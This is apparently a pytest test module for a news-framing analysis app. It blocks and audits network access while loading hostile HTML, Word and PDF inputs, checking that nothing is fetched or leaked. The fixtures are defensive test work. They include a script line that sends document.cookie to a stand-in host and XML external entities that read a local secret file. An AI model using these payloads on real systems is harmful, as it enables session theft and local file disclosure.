"""Issue 8: FrameLens never touches the network unless the user opens a URL.

For this whole module the network is blocked: ``socket.socket.connect``,
``connect_ex``, ``socket.create_connection``, ``getaddrinfo`` and
``gethostbyname`` raise, and an audit hook (which also sees code that kept
its own reference to a socket function) records every Internet connection
and lookup. Then the whole path a hostile saved page takes runs -- load
(remote images, iframes, scripts, style sheets, meta refresh, external DTDs
and entities in HTML and Word files, links in PDFs), analyse, compare,
report to PDF and HTML, export the data -- and no attempt may be recorded.

The views that show article text are checked too: text holding
``<img src="http://...">`` shows literally, the document holds no image, and
a request for a remote resource gets nothing.
"""

from __future__ import annotations

import socket
import subprocess
import sys
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

#: Every network attempt seen while the block is on: (what, where).
ATTEMPTS: list[tuple[str, str]] = []
_BLOCKING = False
_INTERNET = (socket.AF_INET, socket.AF_INET6)


class NetworkBlocked(OSError):
    """Raised instead of connecting: the tests run with no network."""


def _audit(event: str, args: tuple[Any, ...]) -> None:
    if not _BLOCKING:
        return
    if event in ("socket.connect", "socket.sendto", "socket.sendmsg"):
        sock = args[0]
        if getattr(sock, "family", None) in _INTERNET:
            ATTEMPTS.append((event, repr(args[1:])))
    elif event in ("socket.getaddrinfo", "socket.gethostbyname", "urllib.Request"):
        ATTEMPTS.append((event, repr(args[:2])))


_HOOKED = False


@pytest.fixture(scope="module", autouse=True)
def no_network() -> Iterator[list[tuple[str, str]]]:
    """Block and record every Internet connection and name lookup, for the whole module."""
    global _BLOCKING, _HOOKED
    if not _HOOKED:
        sys.addaudithook(_audit)  # hooks cannot be removed; _BLOCKING turns this one off
        _HOOKED = True

    def refuse(what: str) -> Any:
        def blocked(*args: Any, **kwargs: Any) -> Any:
            target = args[1:] if args and isinstance(args[0], socket.socket) else args
            ATTEMPTS.append((what, repr(target)))
            raise NetworkBlocked(f"network access blocked in tests ({what} {target!r})")

        return blocked

    original_connect = socket.socket.connect

    def connect(self: socket.socket, address: Any) -> None:
        if self.family in _INTERNET:
            refuse("connect")(self, address)
        original_connect(self, address)  # local (AF_UNIX) sockets are not the network

    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(socket.socket, "connect", connect)
        patch.setattr(socket.socket, "connect_ex", refuse("connect_ex"))
        patch.setattr(socket, "create_connection", refuse("create_connection"))
        patch.setattr(socket, "getaddrinfo", refuse("getaddrinfo"))
        patch.setattr(socket, "gethostbyname", refuse("gethostbyname"))
        patch.setattr(socket, "gethostbyname_ex", refuse("gethostbyname_ex"))
        _BLOCKING = True
        try:
            yield ATTEMPTS
        finally:
            _BLOCKING = False


@pytest.fixture(autouse=True)
def assert_no_attempt() -> Iterator[None]:
    ATTEMPTS.clear()
    yield
    assert ATTEMPTS == [], f"network access attempted: {ATTEMPTS}"


def test_the_block_works() -> None:
    import urllib.request

    with pytest.raises(OSError):
        urllib.request.urlopen("http://example.invalid/", timeout=1)
    with pytest.raises(OSError):
        socket.create_connection(("example.invalid", 80), timeout=1)
    assert {what for what, _ in ATTEMPTS} >= {"urllib.Request", "create_connection"}
    ATTEMPTS.clear()


# --- hostile inputs --------------------------------------------------------------

STORY = (
    "The council of Northfield voted on Tuesday to close the old harbour bridge for repairs, "
    "after engineers found corrosion in the cables. Critics slammed the decision as a "
    "disaster for shop owners. The mayor said safety had to come first."
)
REMOTE = "http://example.invalid"

DOCTYPE = f'<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "{REMOTE}/dtd/x.dtd">'
REMOTE_PAGE = f"""{DOCTYPE}
<html><head>
<meta http-equiv="refresh" content="0; url={REMOTE}/moved">
<base href="{REMOTE}/base/">
<title>Bridge closes</title>
<link rel="stylesheet" href="{REMOTE}/site.css">
<link rel="preload" href="{REMOTE}/font.woff2" as="font">
<link rel="canonical" href="{REMOTE}/news/bridge">
<style>@import url("{REMOTE}/more.css"); body {{ background: url({REMOTE}/bg.png); }}</style>
<script src="{REMOTE}/tracker.js"></script>
<script>fetch("{REMOTE}/?c=" + document.cookie); new Image().src = "{REMOTE}/px";</script>
</head><body>
<iframe src="{REMOTE}/ad"></iframe>
<img src="{REMOTE}/pixel.gif" srcset="{REMOTE}/a.png 2x" width="1" height="1">
<video poster="{REMOTE}/poster.jpg"><source src="{REMOTE}/v.mp4"></video>
<object data="{REMOTE}/x.swf"></object><embed src="{REMOTE}/y.swf">
<svg><image href="{REMOTE}/s.png"/></svg>
<article><h1>Bridge closes</h1><p>{STORY}</p>
<p>Shown as text: &lt;img src="{REMOTE}/x.png"&gt;</p></article>
<form action="{REMOTE}/post"><input name="q"></form>
</body></html>
"""


def write_docx_with_external_entities(path: Path, secret: Path) -> Path:
    """A Word file whose XML declares entities naming a remote URL and a local file."""
    from tests.analysis.loadfiles import write_docx

    write_docx(path, [STORY])
    with zipfile.ZipFile(path) as original:
        parts = {name: original.read(name) for name in original.namelist()}
    xml = parts["word/document.xml"].decode("utf-8")
    declaration, rest = xml.split("?>", 1)
    doctype = (
        f'<!DOCTYPE doc [<!ENTITY remote SYSTEM "{REMOTE}/entity.xml">'
        f'<!ENTITY secret SYSTEM "file://{secret}">]>'
    )
    rest = rest.replace("Northfield", "Northfield &remote; &secret;", 1)
    parts["word/document.xml"] = (declaration + "?>" + doctype + rest).encode("utf-8")
    # An image linked (not embedded) from the web, as Word writes it.
    rels = parts["word/_rels/document.xml.rels"].decode("utf-8")
    rels = rels.replace(
        "</Relationships>",
        '<Relationship Id="rIdRemote" Type="http://schemas.openxmlformats.org/officeDocument/'
        f'2006/relationships/image" Target="{REMOTE}/linked.png" TargetMode="External"/>'
        "</Relationships>",
    )
    parts["word/_rels/document.xml.rels"] = rels.encode("utf-8")
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as rebuilt:
        for name, data in parts.items():
            rebuilt.writestr(name, data)
    return path


def write_pdf_with_links(path: Path) -> Path:
    """A PDF with a web link annotation and a URI action on opening."""
    from reportlab.pdfgen import canvas

    pdf = canvas.Canvas(str(path))
    text = pdf.beginText(72, 760)
    for line in (STORY[:90], STORY[90:180], STORY[180:]):
        text.textLine(line)
    pdf.drawText(text)
    pdf.linkURL(f"{REMOTE}/pdf-link", (72, 700, 300, 720))
    pdf.save()
    return path


@pytest.fixture(scope="module")
def hostile_folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("remote")
    secret = folder / "secret.txt"
    secret.write_text("TOP-SECRET-LOCAL-FILE")
    (folder / "page.html").write_text(REMOTE_PAGE, encoding="utf-8")
    write_docx_with_external_entities(folder / "entities.docx", secret)
    write_pdf_with_links(folder / "links.pdf")
    (folder / "plain.md").write_text(
        f"![remote image]({REMOTE}/md.png)\n\n[a link]({REMOTE}/md)\n\n{STORY}", encoding="utf-8"
    )
    secret.rename(folder / "secret.data")  # not an article: keep it out of the batch
    (folder / "secret.data").rename(secret.with_suffix(".keep"))
    return folder


def test_loading_hostile_pages_and_documents(hostile_folder: Path) -> None:
    from analysis.load import load_html_string, load_many

    articles, failures = load_many([hostile_folder])
    assert failures == []
    assert len(articles) == 4
    for article in articles:
        assert article.text.startswith(("Bridge closes", "The council of Northfield", "a link"))
        assert REMOTE + "/md" not in article.text  # Markdown links keep their words only
        assert "TOP-SECRET" not in article.text, "an external entity was resolved"
        assert "entity.xml" not in article.text
        if not article.path.endswith(".docx"):
            # (python-docx ends a paragraph at an unresolved entity: the Word
            # file keeps only the words before it; Word never writes entities.)
            assert "Critics slammed the decision" in article.text
        for leak in ("tracker", "document.cookie", "@import"):
            assert leak not in article.text
    page = next(a for a in articles if a.path.endswith("page.html"))
    assert f'<img src="{REMOTE}/x.png">' in page.text  # the page's text, as text
    dropped = load_html_string(REMOTE_PAGE, path="<dropped>", url=f"{REMOTE}/news/bridge")
    assert "Critics slammed the decision" in dropped.text


@pytest.mark.parametrize("tag", ['<embed src="{r}/x.swf">', '<embed src="{r}/x.swf"/>'])
def test_a_remote_embed_neither_loads_nor_hides_the_article(tag: str) -> None:
    """``<embed>`` is void; unclosed, libxml2 nested the article inside it, then dropped both."""
    from analysis.load import load_html_string

    page = f"<html><body>{tag.format(r=REMOTE)}<article><p>{STORY}</p></article></body></html>"
    article = load_html_string(page, path="<dropped>")
    assert article.text.startswith("The council of Northfield")
    assert "x.swf" not in article.text


def test_analyse_compare_report_and_export_offline(
    qapp: Any, hostile_folder: Path, tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    from analysis.compare import compare
    from analysis.export import export_tables
    from analysis.pipeline import analyze
    from gui.report.api import export_data, export_html, export_pdf, write_report
    from tests.test_export_escaping import hostile_corpus

    corpus = analyze([hostile_folder], workers=1)
    assert len(corpus.articles) == 4 and not corpus.errors
    comparison = compare(corpus)
    escaping_corpus, escaping_comparison = hostile_corpus()
    for data, result in ((corpus, comparison), (escaping_corpus, escaping_comparison)):
        assert write_report(tmp_path / "r.pdf", data, result) > 0
        write_report(tmp_path / "r.html", data, result)
        for suffix in (".zip", ".xlsx", ".json"):
            export_tables(tmp_path / f"data{suffix}", data, result)
    # The File menu's entry points, given a path instead of a window.
    assert export_pdf(tmp_path / "menu.pdf", escaping_corpus, escaping_comparison)
    assert export_html(tmp_path / "menu.html", escaping_corpus, escaping_comparison)
    assert export_data(tmp_path / "menu.xlsx", escaping_corpus, escaping_comparison)
    # The report's document refuses (and logs) any resource request; none may be made.
    assert not [r for r in caplog.records if "refused to load resource" in r.getMessage()]


_FRESH_PROCESS = r"""
import sys
from pathlib import Path
from analysis.compare import compare
from analysis.export import export_tables
from analysis.pipeline import analyze
from PySide6.QtWidgets import QApplication
app = QApplication([])
from gui.report.api import write_report
folder, out = Path(sys.argv[1]), Path(sys.argv[2])
corpus = analyze([folder], workers=1)
comparison = compare(corpus)
write_report(out / "r.pdf", corpus, comparison)
write_report(out / "r.html", corpus, comparison)
export_tables(out / "d.zip", corpus, comparison)
print(sorted(m for m in sys.modules if "QtNetwork" in m))
"""


def test_no_network_module_is_even_loaded(
    hostile_folder: Path, tmp_path: Path, repo_dir: Path
) -> None:
    """Qt's own networking is out of Python's sight: check it is never loaded at all."""
    import os

    env = dict(os.environ, QT_QPA_PLATFORM="offscreen", PYTHONPATH=str(repo_dir))
    run = subprocess.run(
        [sys.executable, "-c", _FRESH_PROCESS, str(hostile_folder), str(tmp_path)],
        capture_output=True, text=True, env=env, cwd=repo_dir, timeout=120, check=False,
    )  # fmt: skip
    assert run.returncode == 0, run.stderr[-2000:]
    # (trafilatura imports urllib3 for its downloader; FrameLens never calls it,
    # which the audit hook of the other tests checks.)
    assert run.stdout.strip().splitlines()[-1] == "[]"


# --- views ----------------------------------------------------------------------


class _Recorder:
    """Wraps a widget's loadResource to record what is asked and what is answered."""

    def __init__(self, widget: Any) -> None:
        self.asked: list[tuple[int, str, object]] = []
        original = widget.loadResource

        def load(kind: int, url: Any) -> object:
            answer = original(kind, url)
            self.asked.append(
                (int(kind), url.toString() if hasattr(url, "toString") else str(url), answer)
            )
            return answer

        widget.loadResource = load


def _images(document: Any) -> list[str]:
    names = []
    block = document.begin()
    while block.isValid():
        it = block.begin()
        while not it.atEnd():
            fmt = it.fragment().charFormat()
            if fmt.isImageFormat():
                names.append(fmt.toImageFormat().name())
            it += 1
        block = block.next()
    return names


def _ask_remote(widget: Any) -> list[object]:
    """Ask the widget's document for remote resources, as an <img> or <link> would."""
    from PySide6.QtCore import QUrl
    from PySide6.QtGui import QTextDocument

    answers = []
    for kind in (
        QTextDocument.ResourceType.ImageResource,
        QTextDocument.ResourceType.StyleSheetResource,
    ):
        answers.append(widget.document().resource(kind.value, QUrl(f"{REMOTE}/x.png")))
    return answers


def _is_nothing(answer: object) -> bool:
    return answer is None or (hasattr(answer, "isNull") and answer.isNull()) or answer == b""


def test_article_views_show_markup_literally_and_fetch_nothing(qtbot: Any) -> None:
    from analysis.compare import compare
    from analysis.load import load_text
    from analysis.model import Corpus
    from analysis.score import analyze_article
    from gui.widgets.aligned_view import AlignedView
    from gui.widgets.highlighted_text import HighlightedText
    from gui.widgets.same_fact import SameFactPanel

    img = f'<img src="{REMOTE}/x.png">'
    sheet = f'<link rel="stylesheet" href="{REMOTE}/s.css">'
    text = f"{STORY} {img} The regime slammed critics. {sheet} It was a terrible disaster."
    first = analyze_article(load_text(text, outlet="One"))
    second = analyze_article(load_text(f"{STORY} The government criticised critics.", outlet="Two"))
    corpus = Corpus((first, second))
    comparison = compare(corpus)

    view = HighlightedText()
    qtbot.addWidget(view)
    recorder = _Recorder(view)
    view.set_articles([(0, first), (1, second)])
    view.resize(700, 500)
    view.show()
    qtbot.waitExposed(view)
    view.viewport().repaint()
    plain = view.toPlainText()
    assert img in plain and sheet in plain
    assert _images(view.document()) == []
    assert all(_is_nothing(a) for a in _ask_remote(view))
    assert recorder.asked and all(_is_nothing(answer) for _, _, answer in recorder.asked)
    # A tooltip over a highlight escapes the article text around it.
    loaded = next(h for h in first.highlights if h.text == "slammed")
    tip = view.tooltip_at(view.document_position(0, loaded.start))
    assert "slammed" in tip and "<img" not in tip

    aligned = AlignedView()
    qtbot.addWidget(aligned)
    aligned.set_data(corpus, comparison)
    shown = aligned.browser().toPlainText()
    assert img in shown or sheet in shown or not comparison.groups
    assert _images(aligned.browser().document()) == []
    assert all(_is_nothing(a) for a in _ask_remote(aligned.browser()))

    panel = SameFactPanel()
    qtbot.addWidget(panel)
    panel.set_data(corpus, comparison)
    for sentence in range(len(first.sentences)):
        panel.show_sentence(0, sentence)
        assert _images(panel.document()) == []
    assert all(_is_nothing(a) for a in _ask_remote(panel))
